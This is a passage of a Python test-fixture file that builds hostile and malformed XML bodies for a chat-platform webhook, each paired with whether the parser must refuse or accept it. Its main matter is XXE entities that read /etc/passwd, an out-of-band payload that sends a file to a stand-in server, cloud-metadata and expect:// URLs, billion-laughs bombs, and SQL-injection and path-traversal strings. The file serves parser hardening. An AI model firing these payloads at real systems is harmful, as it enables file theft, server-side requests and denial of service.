"""Bodies that somebody might post to the webhook to break it, each with what must become of it.

Import :data:`CASES`, or call :func:`cases` for bodies of your own account, person, time, or canary.
An expectation is one of three:

- ``REFUSED``: no XML of the platform's. ``wx.protocol.xml.read`` raises BadXML.
- ``NOT_A_MESSAGE``: well-formed and harmless, but no message: ``xml.read`` takes it, and
  ``wx.protocol.incoming.read`` raises BadMessage.
- ``ACCEPTED``: odd but right, a text message with a MsgId of its own; ``content`` is what its
  Content reads as.

Nothing that these bodies name may ever be opened, connected to, or looked up.
"""

import re
from collections.abc import Iterator
from dataclasses import dataclass

REFUSED = "refused"
NOT_A_MESSAGE = "not a message"
ACCEPTED = "accepted"

LIMIT = 131072  # bytes; what the webhook reads at most


@dataclass(frozen=True)
class Case:
    """A body, and what must become of it. ``content`` is there for accepted ones only."""

    name: str
    body: bytes
    expectation: str
    content: str = ""


def cases(
    *,
    account: str = "gh_5a17c0de0001",
    sender: str = "oSim0001aaaaaaaaaaaaaaaaaaaa",
    now: int = 1_700_000_000,
    file: str = "file:///etc/passwd",
    site: str = "http://127.0.0.1:9",
) -> tuple[Case, ...]:
    """All bodies.

    Args:
        account: the name that a message for us carries in ToUserName.
        sender: the openid in FromUserName.
        now: CreateTime.
        file: the file that hostile bodies want to read.
        site: the server that they want to reach.
    """
    made = _Bodies(account, sender, now, file, site)
    return (
        *made.document_types(),
        *made.encodings(),
        *made.broken_bytes(),
        *made.broken_characters(),
        *made.roots(),
        *made.doubled(),
        *made.namespaces(),
        *made.sizes(),
        *made.broken_markup(),
        *made.cut(),
        *made.not_xml(),
        *made.not_messages(),
        *made.odd_but_right(),
    )


class _Bodies:
    def __init__(self, account: str, sender: str, now: int, file: str, site: str) -> None:
        self._account, self._sender, self._now = account, sender, now
        self._file, self._site = file, site
        self._last = 7_000_000_000_000_000_000

    def _fields(self, **changes: str | None) -> str:
        """A text message's fields; a change of None leaves one out, others are put as they are."""
        self._last += 1
        fields: dict[str, str | None] = {
            "ToUserName": f"<![CDATA[{self._account}]]>",
            "FromUserName": f"<![CDATA[{self._sender}]]>",
            "CreateTime": str(self._now),
            "MsgType": "<![CDATA[text]]>",
            "Content": "<![CDATA[hello]]>",
            "MsgId": str(self._last),
            **changes,
        }
        return "".join(f"<{n}>{v}</{n}>" for n, v in fields.items() if v is not None)

    def _xml(self, *, before: str = "", end: str = "", **changes: str | None) -> str:
        return f"{before}<xml>{self._fields(**changes)}{end}</xml>"

    def _content(self, content: str) -> str:
        return self._xml(Content=content)

    def _with_bytes(self, odd: bytes) -> bytes:
        """A message whose Content is ``odd``, byte by byte."""
        return self._content("\0").encode().replace(b"\0", odd)

    def _padded(self, body: str, size: int) -> bytes:
        """``body`` with its ``@`` repeated until it has ``size`` bytes."""
        return body.replace("@", "@" * (size - len(body.encode()) + 1)).encode()

    def document_types(self) -> Iterator[Case]:
        """A DOCTYPE is the door to files, servers and bombs, so there is none, however harmless."""
        file, site = self._file, self._site
        expanded = self._content("&e;")
        laughs = '<!ENTITY a0 "lol">' + "".join(
            f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)
        )
        oob = (
            f'<!DOCTYPE xml [<!ENTITY % f SYSTEM "{file}"><!ENTITY % d SYSTEM "{site}/x.dtd">'
            "%d;%send;]>"
        )
        prologs = {
            "bare": "<!DOCTYPE xml>",
            "empty subset": "<!DOCTYPE xml []>",
            "of another root": "<!DOCTYPE message>",
            "in small letters": "<!doctype xml>",
            "of HTML": "<!DOCTYPE html>",
            "of XHTML": '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
            '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
            "system file": f'<!DOCTYPE xml SYSTEM "{file}">',
            "system site": f'<!DOCTYPE xml SYSTEM "{site}/x.dtd">',
            "public site": f'<!DOCTYPE xml PUBLIC "-//x//y" "{site}/x.dtd">',
            "unfinished": "<!DOCTYPE xml [",
            "over lines": "<!DOCTYPE\n\txml\n>",
            "after a declaration": '<?xml version="1.0"?><!DOCTYPE xml>',
            "after a declaration that stands alone": '<?xml version="1.0" standalone="yes"?>'
            "<!DOCTYPE xml>",
            "after a comment": "<!-- <xml> --><!DOCTYPE xml>",
            "after an instruction": "<?a <xml> ?><!DOCTYPE xml>",
            "after blanks": "\n \t\r\n<!DOCTYPE xml>",
            "after a byte order mark": "\ufeff<!DOCTYPE xml>",
            "before a comment": "<!DOCTYPE xml><!-- <xml> -->",
            "twice": "<!DOCTYPE xml><!DOCTYPE xml>",
            "entity": '<!DOCTYPE xml [<!ENTITY e "hello">]>',
            "entity file": f'<!DOCTYPE xml [<!ENTITY e SYSTEM "{file}">]>',
            "entity file without scheme": '<!DOCTYPE xml [<!ENTITY e SYSTEM "/etc/passwd">]>',
            "entity beside": '<!DOCTYPE xml [<!ENTITY e SYSTEM "x.txt">]>',
            "entity device": '<!DOCTYPE xml [<!ENTITY e SYSTEM "file:///dev/zero">]>',
            "entity standard input": '<!DOCTYPE xml [<!ENTITY e SYSTEM "-">]>',
            "entity site": f'<!DOCTYPE xml [<!ENTITY e SYSTEM "{site}/x">]>',
            "entity public": f'<!DOCTYPE xml [<!ENTITY e PUBLIC "x" "{site}/x">]>',
            "entity ftp": '<!DOCTYPE xml [<!ENTITY e SYSTEM "ftp://127.0.0.1:9/x">]>',
            "entity gopher": '<!DOCTYPE xml [<!ENTITY e SYSTEM "gopher://127.0.0.1:9/_x">]>',
            "entity share": '<!DOCTYPE xml [<!ENTITY e SYSTEM "//127.0.0.1/share/x">]>',
            "entity php": '<!DOCTYPE xml [<!ENTITY e SYSTEM "php://filter/resource=/etc/passwd">]>',
            "entity command": '<!DOCTYPE xml [<!ENTITY e SYSTEM "expect://id">]>',
            "entity jar": f'<!DOCTYPE xml [<!ENTITY e SYSTEM "jar:{site}/x.zip!/y">]>',
            "entity metadata": '<!DOCTYPE xml [<!ENTITY e SYSTEM "http://169.254.169.254/latest">]>',
            "entity that is markup": "<!DOCTYPE xml [<!ENTITY e '<MsgType>event</MsgType>'>]>",
            "entity of itself": '<!DOCTYPE xml [<!ENTITY e "&e;">]>',
            "entities of each other": '<!DOCTYPE xml [<!ENTITY e "&f;"><!ENTITY f "&e;">]>',
            "entity not parsed": f'<!DOCTYPE xml [<!NOTATION n SYSTEM "x">'
            f'<!ENTITY e SYSTEM "{file}" NDATA n>]>',
            "entity that means lt": '<!DOCTYPE xml [<!ENTITY lt "&#38;#60;">]>',
            "parameter entity": "<!DOCTYPE xml [<!ENTITY % p \"<!ENTITY e 'x'>\">%p;]>",
            "parameter entity file": f'<!DOCTYPE xml [<!ENTITY % p SYSTEM "{file}">%p;]>',
            "parameter entity site": f'<!DOCTYPE xml [<!ENTITY % p SYSTEM "{site}/x.dtd">%p;]>',
            "parameter entities that send a file away": oob,
            "attribute defaults": "<!DOCTYPE xml [<!ATTLIST Content a CDATA 'x'>]>",
            "namespace by default": "<!DOCTYPE xml [<!ATTLIST xml xmlns CDATA 'urn:x'>]>",
            "elements declared": "<!DOCTYPE xml [<!ELEMENT xml ANY>]>",
            "notation": f'<!DOCTYPE xml [<!NOTATION n SYSTEM "{site}/n">]>',
            "conditional section": "<!DOCTYPE xml [<![INCLUDE[<!ENTITY e 'x'>]]>]>",
            "subset with a false end": "<!DOCTYPE xml [<!-- ]> --><!ENTITY e 'x'>]>",
            "billion laughs": f'<!DOCTYPE xml [{laughs}<!ENTITY e "&a9;">]>',
            "quadratic blowup": f'<!DOCTYPE xml [<!ENTITY e "{"x" * 50_000}">]>',
            "deep content model": f"<!DOCTYPE xml [<!ELEMENT xml {'(' * 60_000}]>",
            "thousands of entities": "<!DOCTYPE xml ["
            + "".join(f"<!ENTITY b{n} ''>" for n in range(5_000))
            + "<!ENTITY e 'x'>]>",
            "thousands of attributes": "<!DOCTYPE xml [<!ENTITY e 'x'>"
            + "".join(f"<!ATTLIST xml b{n} CDATA ''>" for n in range(4_000))
            + "]>",
        }
        for name, prolog in prologs.items():
            yield Case(f"document type: {name}", f"{prolog}{expanded}".encode(), REFUSED)
        plain = self._xml()
        yield Case("document type: harmless", f"<!DOCTYPE xml>{plain}".encode(), REFUSED)
        yield Case("document type: after the root", f"{plain}<!DOCTYPE xml>".encode(), REFUSED)
        inside = self._xml(end="<!DOCTYPE xml>")
        yield Case("document type: inside the root", inside.encode(), REFUSED)
        blowup = f"<!DOCTYPE xml [<!ENTITY e '{'x' * 10_000}'>]><xml>{'&e;' * 20_000}</xml>"
        yield Case("document type: blowup used often", blowup.encode(), REFUSED)
        for name, text in {
            "unknown": "&e;",
            "of HTML": "a&nbsp;b",
            "unfinished": "a&amp",
            "bare ampersand": "a & b",
            "nameless": "a&;b",
            "with a blank": "a& amp;b",
        }.items():
            yield Case(f"entity: {name}", self._content(text).encode(), REFUSED)
        many = self._xml(end=f"<a>{'&e;' * 30_000}</a>")
        yield Case("entity: unknown, often", many.encode(), REFUSED)
        attribute = self._xml(end="<a b='&e;'/>")
        yield Case("entity: unknown in an attribute", attribute.encode(), REFUSED)

    def encodings(self) -> Iterator[Case]:
        """UTF-8 is read, whatever is declared; everything else is broken UTF-8."""
        plain = self._xml()
        hidden = f"<!DOCTYPE xml [<!ENTITY e SYSTEM '{self._file}'>]>{self._content('&e;')}"
        for codec, label in {
            "utf-16": "UTF-16",  # with a byte order mark
            "utf-16-le": "UTF-16",
            "utf-16-be": "UTF-16",
            "utf-32": "UTF-32",
            "utf-32-le": "UTF-32",
            "utf-32-be": "UTF-32",
            "cp037": "IBM037",  # EBCDIC
        }.items():
            declaration = f'<?xml version="1.0" encoding="{label}"?>'
            for kind, text in {
                "": plain,
                ", declared": declaration + plain,
                " with a document type": declaration + hidden,
            }.items():
                yield Case(f"encoding: {codec}{kind}", text.encode(codec), REFUSED)
        for kind, text in {"": plain, " with a document type": hidden}.items():
            seven = text.replace("<", "+ADw-").replace(">", "+AD4-")
            yield Case(f"encoding: UTF-7{kind}", seven.encode(), REFUSED)
            declared = f'<?xml version="1.0" encoding="UTF-7"?>{seven}'
            yield Case(f"encoding: UTF-7{kind}, declared", declared.encode(), REFUSED)
        mark = b"\xfe\xff"
        yield Case("encoding: a wrong byte order mark", mark + plain.encode(), REFUSED)
        yield Case("encoding: two byte order marks", b"\xef\xbb\xbf" * 2 + plain.encode(), REFUSED)
        for label in ("GBK", "GB18030", "Shift_JIS", "Big5", "ISO-8859-1"):
            text = "é" if label == "ISO-8859-1" else "微信"
            body = f'<?xml version="1.0" encoding="{label}"?>{self._content(text)}'.encode(label)
            yield Case(f"encoding: {label}, declared", body, REFUSED)
        body = self._content("你好").encode("gbk")
        yield Case("encoding: GBK, not declared", body, REFUSED)
        double = f"{self._xml()}".encode() + self._xml().encode("utf-16-le")
        yield Case("encoding: changes in the middle", double, REFUSED)

    def broken_bytes(self) -> Iterator[Case]:
        """Bytes that are no UTF-8."""
        sequences = {
            "FF": b"\xff",
            "FE": b"\xfe",
            "a continuation alone": b"\x80",
            "a continuation too many": b"\xc3\xa9\xa9",
            "two bytes cut": b"\xc3",
            "three bytes cut": b"\xe4\xbd",
            "four bytes cut": b"\xf0\x9f\x8c",
            "five bytes": b"\xf8\x88\x80\x80\x80",
            "six bytes": b"\xfc\x84\x80\x80\x80\x80",
            "overlong NUL": b"\xc0\x80",
            "overlong slash": b"\xc0\xaf",
            "overlong less-than": b"\xc0\xbc",
            "overlong in three": b"\xe0\x80\xbc",
            "overlong in four": b"\xf0\x80\x80\xbc",
            "beyond the last character": b"\xf4\x90\x80\x80",
            "F5": b"\xf5\x80\x80\x80",
            "a high surrogate": b"\xed\xa0\xbc",
            "a low surrogate": b"\xed\xbc\xbb",
            "a pair of surrogates, as in CESU-8": b"\xed\xa0\xbc\xed\xbc\xbb",
            "U+FFFE": b"\xef\xbf\xbe",
            "U+FFFF": b"\xef\xbf\xbf",
            "Latin-1": b"caf\xe9",
        }
        for name, odd in sequences.items():
            yield Case(f"bytes: {name}", self._with_bytes(odd), REFUSED)
            cdata = self._with_bytes(b"<![CDATA[" + odd + b"]]>")
            yield Case(f"bytes: {name} in CDATA", cdata, REFUSED)
        plain = self._xml().encode()
        for place, body in {
            "a name": plain.replace(b"<Content>", b"<Content\xff>"),
            "a comment": plain.replace(b"<Content>", b"<!-- \xff --><Content>"),
            "an instruction": plain.replace(b"<Content>", b"<?a \xff?><Content>"),
            "an attribute": plain.replace(b"<Content>", b"<Content a='\xff'>"),
            "front of the root": b"\xff" + plain,
            "front of the root, as a comment": b"<!-- \xff -->" + plain,
            "the end": plain + b"\xff",
        }.items():
            yield Case(f"bytes: FF in {place}", body, REFUSED)

    def broken_characters(self) -> Iterator[Case]:
        """Characters that XML does not have."""
        for number in (0x00, 0x01, 0x07, 0x08, 0x0B, 0x0C, 0x0E, 0x1B, 0x1F):
            name = f"U+{number:04X}"
            raw = self._with_bytes(bytes([number]))
            yield Case(f"character: {name}", raw, REFUSED)
            cdata = self._with_bytes(b"<![CDATA[" + bytes([number]) + b"]]>")
            yield Case(f"character: {name} in CDATA", cdata, REFUSED)
        plain = self._xml().encode()
        for place, body in {
            "a name": plain.replace(b"<Content>", b"<Con\0tent>"),
            "an attribute": plain.replace(b"<Content>", b"<Content a='\0'>"),
            "front of the root": b"\0" + plain,
            "the end": plain + b"\0",
            "the middle, and another root": plain + b"\0" + plain,
        }.items():
            yield Case(f"character: NUL in {place}", body, REFUSED)
        for reference in (
            "&#0;",
            "&#x0;",
            "&#1;",
            "&#27;",
            "&#xD800;",
            "&#xDFFF;",
            "&#xD83C;&#xDF3B;",
            "&#xFFFE;",
            "&#65535;",
            "&#x110000;",
            "&#99999999999999999999;",
            "&#x100000041;",
            "&#-1;",
            "&#;",
            "&#x;",
            "&#xg;",
            "&#X41;",
            "&# 65;",
            "&#65",
        ):
            yield Case(f"reference: {reference}", self._content(reference).encode(), REFUSED)

    def roots(self) -> Iterator[Case]:
        """One element named xml, and nothing beside it."""
        fields, plain = self._fields(), self._xml()
        for name, body in {
            "in capitals": f"<XML>{fields}</XML>",
            "with a capital": f"<Xml>{fields}</Xml>",
            "with a longer name": f"<xmls>{fields}</xmls>",
            "with a dash": f"<xml-a>{fields}</xml-a>",
            "named message": f"<message>{fields}</message>",
            "with a message inside": f"<root>{plain}</root>",
            "HTML": f"<html><body>{plain}</body></html>",
            "SVG": f'<svg xmlns="http://www.w3.org/2000/svg">{fields}</svg>',
            "SOAP": '<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>'
            f"{plain}</s:Body></s:Envelope>",
            "RSS": f"<rss>{plain}</rss>",
            "twice": plain * 2,
            "empty, then a message": f"<xml/>{plain}",
            "a message, then empty": f"{plain}<xml/>",
            "and another element": f"{plain}<a/>",
            "with text before": f"hello{plain}",
            "with text behind": f"{plain}hello",
            "with CDATA before": f"<![CDATA[]]>{plain}",
            "with CDATA behind": f"{plain}<![CDATA[]]>",
            "with a reference before": f"&#32;{plain}",
            "with a reference behind": f"{plain}&#32;",
            "with text between the fields": f"<xml>hello{fields}</xml>",
            "with text after the fields": f"<xml>{fields}hello</xml>",
            "with CDATA between the fields": f"<xml><![CDATA[hello]]>{fields}</xml>",
            "with text only": "<xml>hello</xml>",
            "missing": fields,
            "not closed": f"<xml>{fields}",
            "not opened": f"{fields}</xml>",
            "closed twice": f"{plain}</xml>",
            "closed as another": f"<xml>{fields}</XML>",
            "with a space": f"< xml>{fields}</xml>",
            "with a line break in its name": f"<x\nml>{fields}</xml>",
        }.items():
            yield Case(f"root: {name}", body.encode(), REFUSED)

    def doubled(self) -> Iterator[Case]:
        """Which of two would count is a question that each reader answers in its own way."""
        other = {
            "ToUserName": "<![CDATA[gh_000000000000]]>",
            "FromUserName": "<![CDATA[oAnother]]>",
            "CreateTime": "1",
            "MsgType": "<![CDATA[event]]>",
            "Content": "<![CDATA[other]]>",
            "MsgId": "1",
        }
        for name, value in other.items():
            element = f"<{name}>{value}</{name}>"
            yield Case(f"doubled: {name} again", self._xml(end=element).encode(), REFUSED)
            first = f"<xml>{element}{self._fields()}</xml>"
            yield Case(f"doubled: {name} before", first.encode(), REFUSED)
        same = f"<xml>{self._fields()}<Content><![CDATA[hello]]></Content></xml>"
        yield Case("doubled: the same again", same.encode(), REFUSED)
        yield Case("doubled: empty", self._xml(end="<Content/>").encode(), REFUSED)
        nested = self._xml(end="<Content><a>other</a></Content>")
        yield Case("doubled: nested", nested.encode(), REFUSED)
        attributes = self._xml(end="<Content a='b'>other</Content>")
        yield Case("doubled: with an attribute", attributes.encode(), REFUSED)
        twice = "<xml><Encrypt>QUJD</Encrypt><Encrypt>REVG</Encrypt></xml>"
        yield Case("doubled: Encrypt", twice.encode(), REFUSED)
        unknown = self._xml(end="<a>1</a><a>2</a>")
        yield Case("doubled: an unknown one", unknown.encode(), REFUSED)
        often = self._xml(end="<MsgType>text</MsgType>" * 400)
        yield Case("doubled: four hundred times", often.encode(), REFUSED)

    def namespaces(self) -> Iterator[Case]:
        """An element in a namespace only looks like the platform's."""
        fields, file, site = self._fields(), self._file, self._site
        include = "http://www.w3.org/2001/XInclude"
        for name, body in {
            "of the root": f'<xml xmlns="urn:x">{fields}</xml>',
            "of the root, with a prefix": f'<a:xml xmlns:a="urn:x">{fields}</a:xml>',
            "of the root, the prefix xml": f"<xml:xml>{fields}</xml:xml>",
            "of a field": self._xml(end='<a xmlns="urn:x">1</a>'),
            "of a field, with a prefix": self._xml(end='<a:a xmlns:a="urn:x">1</a:a>'),
            "of a field that is there without": self._xml(
                end='<MsgType xmlns="urn:x">event</MsgType>'
            ),
            "of a field, with the prefix xml": self._xml(end="<xml:a>1</xml:a>"),
            "deep inside": self._xml(end='<a><b><c:d xmlns:c="urn:x"/></b></a>'),
            "without a declaration": self._xml(end="<a:a>1</a:a>"),
            "of an attribute, without a declaration": self._xml(end='<a b:c="1"/>'),
            "taken back": '<xml xmlns:a="urn:x">' + fields + '<b xmlns:a=""/></xml>',
            "with the prefix xml as another": f'<xml xmlns:xml="urn:x">{fields}</xml>',
            "with the prefix xmlns": f'<xml xmlns:xmlns="urn:x">{fields}</xml>',
            "declared twice": f'<xml xmlns:a="urn:x" xmlns:a="urn:y">{fields}</xml>',
            "two colons": self._xml(end='<a:b:c xmlns:a="urn:x"/>'),
            "XInclude of a file": self._xml(
                end=f'<i:include xmlns:i="{include}" href="{file}" parse="text"/>'
            ),
            "XInclude from a site": self._xml(
                end=f'<i:include xmlns:i="{include}" href="{site}/x"/>'
            ),
            "XInclude in place of the fields": f'<xml xmlns:i="{include}">'
            f'<i:include href="{file}"/></xml>',
            "XInclude as the root": f'<i:include xmlns:i="{include}" href="{file}"/>',
            "a stylesheet": '<s:stylesheet xmlns:s="http://www.w3.org/1999/XSL/Transform" '
            'version="1.0"><s:template match="/"><s:value-of '
            f"select=\"document('{file}')\"/></s:template></s:stylesheet>",
        }.items():
            yield Case(f"namespace: {name}", body.encode(), REFUSED)

    def sizes(self) -> Iterator[Case]:
        """Too much of something. None may take longer than a blink."""
        plain, fields = self._xml(), self._fields()
        for name, body in {
            "nine deep": self._xml(end=f"{'<a>' * 8}x{'</a>' * 8}"),
            "three hundred deep": self._xml(end=f"{'<a>' * 299}x{'</a>' * 299}"),
            "fifteen thousand deep": self._xml(end=f"{'<a>' * 15_000}x{'</a>' * 15_000}"),
            "forty thousand deep, not closed": "<xml>" + "<a>" * 40_000,
            "roots in roots": "<xml>" * 15_000,
            "deep with other names": "<xml>" + "".join(f"<a{n}>" for n in range(12_000)),
            "deep with namespaces": "<xml>" + "".join(f'<a xmlns:b{n}="c">' for n in range(5_000)),
            "five hundred and one": f"<xml>{''.join(f'<a{n}/>' for n in range(500))}</xml>",
            "five hundred and one inside": self._xml(end=f"<a>{'<b/>' * 493}</a>"),
            "thirty thousand": f"<xml>{fields}<a>{'<b/>' * 30_000}</a></xml>",
            "twelve thousand names": self._xml(
                end=f"<a>{''.join(f'<b{n}/>' for n in range(12_000))}</a>"
            ),
            "children and text in turn": self._xml(end=f"<a>{'<b/>x' * 25_000}</a>"),
            "thousands of comments": self._xml(end="<!---->" * 18_000),
            "thousands of instructions": self._xml(end="<?a?>" * 25_000),
            "thousands of comments in a text": self._content("x<!---->" * 16_000),
            "only less-than": "<" * LIMIT,
            "less-than in the root": "<xml>" + "<" * 131_000,
            "only greater-than": ">" * LIMIT,
            "only ampersands": "<xml><a>" + "&" * 131_000,
            "only brackets": "<xml><a>" + "]" * 131_000,
            "only ends of CDATA": "<xml><a>" + "]]>" * 43_000,
            "unfinished CDATA": "<xml><a>" + "<![CDATA[" * 14_000,
            "unfinished comments": "<!--" * 32_000,
            "unfinished comments in the root": "<xml>" + "<!--" * 32_000,
            "comments with dashes": "<xml>" + "<!--" + "-" * 130_000,
            "unfinished instructions": "<?" * 65_000,
            "unfinished instructions in the root": "<xml>" + "<?a " * 32_000,
            "unfinished tags": "<xml>" + "<a " * 43_000,
            "unfinished attributes": "<xml " + "a='" * 43_000,
            "attributes doubled": "<xml " + "a='' " * 20_000 + f">{fields}</xml>",
            "a name of sixty thousand": self._xml(end=f"<{'a' * 60_000}/>"),
            "a prefix of sixty thousand": self._xml(end=f"<{'a' * 60_000}:b/>"),
            "an attribute's name of sixty thousand": self._xml(end=f"<a {'b' * 60_000}=''/>"),
            "only blanks": " " * LIMIT,
            "blanks before the declaration": " " * 100_000 + '<?xml version="1.0"?>' + plain,
            "only NUL": "\0" * LIMIT,
            "only digits": "9" * LIMIT,
            "a reference of a hundred thousand digits": self._content(f"&#{'9' * 100_000};"),
            "a reference that never ends": self._content(f"&{'a' * 100_000}"),
        }.items():
            yield Case(f"size: {name}", body.encode(), REFUSED)
        large = self._padded(self._content("<![CDATA[@]]>"), LIMIT + 1)
        yield Case("size: a byte too long", large, REFUSED)

    def broken_markup(self) -> Iterator[Case]:
        """Almost XML."""
        for name, content in {
            "CDATA not closed": "<![CDATA[hello",
            "CDATA closed twice": "<![CDATA[hello]]>]]>",
            "CDATA in CDATA": "<![CDATA[a<![CDATA[b]]>c]]>",
            "CDATA in small letters": "<![cdata[hello]]>",
            "CDATA with a blank": "<![ CDATA[hello]]>",
            "CDATA with a blank before its bracket": "<![CDATA [hello]]>",
            "CDATA without its bracket": "<![CDATA hello]]>",
            "the end of CDATA in a text": "a]]>b",
            "another marked section": "<![IGNORE[hello]]>",
            "a less-than in a text": "1 < 2",
            "a heart": "<3",
            "a nameless element": "a<>b",
            "an element with a digit": "<1>a</1>",
            "an element with a dash": "<-a>b</-a>",
            "elements that cross": "<a><b></a></b>",
            "an element not closed": "<br>",
            "an element closed in other letters": "<a>b</A>",
            "an end too many": "a</b>",
            "an end with an attribute": "<a>b</a c='d'>",
            "an end with a blank": "<a>b</ a>",
            "an attribute without quotes": "<a b=c/>",
            "an attribute without a value": "<a b/>",
            "an attribute not closed": "<a b='c/>",
            "an attribute twice": "<a b='1' b='2'/>",
            "an attribute with a less-than": "<a b='<'/>",
            "attributes without a blank": "<a b='1'c='2'/>",
            "an attribute with an ampersand": "<a b='&'/>",
            "a comment not closed": "<!-- a",
            "a comment with two dashes": "<!-- a -- b -->",
            "a comment that ends with three": "<!-- a --->",
            "a comment that is none": "<! a>",
            "an instruction not closed": "<?a b",
            "an instruction without a name": "<? a?>",
            "a declaration inside": '<?xml version="1.0"?>',
            "a declaration inside in capitals": "<?XML a?>",
            "ASP": "<% a %>",
            "an id twice": "<a xml:id='i'/><b xml:id='i'/>",
        }.items():
            yield Case(f"markup: {name}", self._content(content).encode(), REFUSED)
        plain = self._xml()
        for name, before in {
            "after a blank": ' <?xml version="1.0"?>',
            "twice": '<?xml version="1.0"?>' * 2,
            "after a comment": '<!-- --><?xml version="1.0"?>',
            "without a version": '<?xml encoding="UTF-8"?>',
            "empty": "<?xml?>",
            "not closed": '<?xml version="1.0"',
            "of version 2": '<?xml version="2.0"?>',
            "of a version that is none": '<?xml version="one"?>',
            "with more": '<?xml version="1.0" a="b"?>',
            "without quotes": "<?xml version=1.0?>",
            "that stands alone, perhaps": '<?xml version="1.0" standalone="maybe"?>',
        }.items():
            yield Case(f"declaration: {name}", f"{before}{plain}".encode(), REFUSED)

    def cut(self) -> Iterator[Case]:
        """A message that ends too early."""
        whole = self._content("<![CDATA[你好]]>").encode()
        places = {1, 2, 4, 5, 6, 12, 16, 17, 18, 20, 26, 40, len(whole) - 1, len(whole) - 2}
        places |= {len(whole) - 6, len(whole) - 7, len(whole) // 2, whole.index(b"\xbd")}
        for place in sorted(places):
            yield Case(f"cut after {place} bytes", whole[:place], REFUSED)
        yield Case("cut at the front", whole[1:], REFUSED)
        yield Case("cut at the front, after the root", whole[5:], REFUSED)

    def not_xml(self) -> Iterator[Case]:
        """Something else altogether."""
        for name, body in {
            "nothing": b"",
            "a blank": b" ",
            "a line break": b"\r\n",
            "a byte order mark": b"\xef\xbb\xbf",
            "a declaration": b'<?xml version="1.0" encoding="UTF-8"?>',
            "a comment": b"<!-- hello -->",
            "CDATA": b"<![CDATA[hello]]>",
            "text": b"hello",
            "success": b"success",
            "a number": b"1",
            "NUL": b"\0",
            "JSON": b'{"ToUserName":"gh_5a17c0de0001","MsgType":"text","Content":"hello"}',
            "a JSON list": b"[]",
            "JSON with XML in it": b'{"a":"<xml></xml>"}',
            "a form": b"ToUserName=a&MsgType=text",
            "a form with XML in it": b"body=%3Cxml%3E%3C%2Fxml%3E",
            "multipart": b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n<xml/>\r\n--x--',
            "HTML": b"<!doctype html><title>hello</title><p>hello",
            "YAML": b"ToUserName: a\nMsgType: text\n",
            "TOML": b'[xml]\nMsgType = "text"\n',
            "gzip": bytes.fromhex("1f8b0800000000000003b3a9c8cdb1d307d100a4b4b2a80b000000"),
            "PNG": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR",
            "a zip": b"PK\x03\x04\x14\0\0\0",
            "WBXML": b"\x03\x01\x6a\x00",
            "a pickle": b"\x80\x04]\x94.",
            "an HTTP request": b"POST / HTTP/1.1\r\nHost: a\r\n\r\n<xml></xml>",
            "every byte": bytes(range(256)),
            "every byte, many times": bytes(range(256)) * 512,
            "SQL": b"' OR 1=1 --",
            "a template": b"{{ 7*7 }}${7*7}<%= 7*7 %>",
            "a path": b"../../../../etc/passwd",
        }.items():
            yield Case(f"not XML: {name}", body, REFUSED)

    def not_messages(self) -> Iterator[Case]:
        """Right XML that says nothing, or nothing that could be true."""
        event = {"MsgType": "event", "Content": None, "MsgId": None}
        place = {"MsgType": "location", "Content": None, "Scale": "1"}
        for name, body in {
            "no fields": "<xml></xml>",
            "no fields, in short": "<xml/>",
            "only unknown fields": "<xml><a>1</a><b>2</b></xml>",
            "no ToUserName": self._xml(ToUserName=None),
            "no FromUserName": self._xml(FromUserName=None),
            "no CreateTime": self._xml(CreateTime=None),
            "no MsgType": self._xml(MsgType=None),
            "empty ToUserName": self._xml(ToUserName=""),
            "empty FromUserName": self._xml(FromUserName="<![CDATA[]]>"),
            "empty CreateTime": self._xml(CreateTime=""),
            "empty MsgType": self._xml(MsgType="<![CDATA[]]>"),
            "nested ToUserName": self._xml(ToUserName=f"<a>{self._account}</a>"),
            "nested FromUserName": self._xml(FromUserName="<a>b</a>"),
            "nested CreateTime": self._xml(CreateTime=f"<a>{self._now}</a>"),
            "nested MsgType": self._xml(MsgType="<a>text</a>"),
            "names in other letters": self._xml().replace("UserName", "username"),
            "CreateTime is a word": self._xml(CreateTime="now"),
            "CreateTime is negative": self._xml(CreateTime="-1"),
            "CreateTime is a fraction": self._xml(CreateTime="1700000000.5"),
            "CreateTime is a power": self._xml(CreateTime="1e9"),
            "CreateTime is hexadecimal": self._xml(CreateTime="0x6553F100"),
            "CreateTime has underlines": self._xml(CreateTime="1_700_000_000"),
            "CreateTime in wide digits": self._xml(CreateTime="１７００００００００"),
            "CreateTime in Arabic digits": self._xml(CreateTime="١٧٠٠٠٠٠٠٠٠"),
            "CreateTime is no number": self._xml(CreateTime="NaN"),
            "CreateTime is infinite": self._xml(CreateTime="inf"),
            "CreateTime is far away": self._xml(CreateTime="9" * 30),
            "CreateTime has thousands of digits": self._xml(CreateTime="9" * 5_000),
            "a nested MsgId": self._xml(MsgId="<a>1</a>"),
            "MsgId is a word": self._xml(MsgId="first"),
            "MsgId is negative": self._xml(MsgId="-1"),
            "MsgId has thousands of digits": self._xml(MsgId="9" * 5_000),
            "a text without Content": self._xml(Content=None),
            "a text without MsgId": self._xml(MsgId=None),
            "a nested Content": self._xml(Content="<a>hello</a>"),
            "an image without MediaId": self._xml(MsgType="image", Content=None),
            "ToUserName with blanks": self._xml(ToUserName=f" {self._account} "),
            "FromUserName in Chinese": self._xml(FromUserName="微信"),
            "FromUserName that is markup": self._xml(FromUserName="<![CDATA[<b>]]>"),
            "FromUserName with a line break": self._xml(FromUserName=f"{self._sender}\nx"),
            "FromUserName of a thousand": self._xml(FromUserName="o" * 1_000),
            "MsgType with a blank": self._xml(MsgType="te xt"),
            "MsgType of a thousand": self._xml(MsgType="t" * 1_000),
            "a place that is nowhere": self._xml(**place, Location_X="north", Location_Y="1"),
            "a place off the earth": self._xml(**place, Location_X="90.1", Location_Y="1"),
            "a place that is no number": self._xml(**place, Location_X="NaN", Location_Y="nan"),
            "a place that is infinite": self._xml(**place, Location_X="1", Location_Y="1e999"),
            "a place without a longitude": self._xml(**place, Location_X="1"),
            "a place seen from far away": self._xml(
                **place | {"Scale": "9" * 100}, Location_X="1", Location_Y="1"
            ),
            "an event without a name": self._xml(**event),
            "an event with an empty name": self._xml(**event, Event=""),
            "an event with a nested name": self._xml(**event, Event="<a>CLICK</a>"),
            "an envelope in place of a message": "<xml><ToUserName>a</ToUserName>"
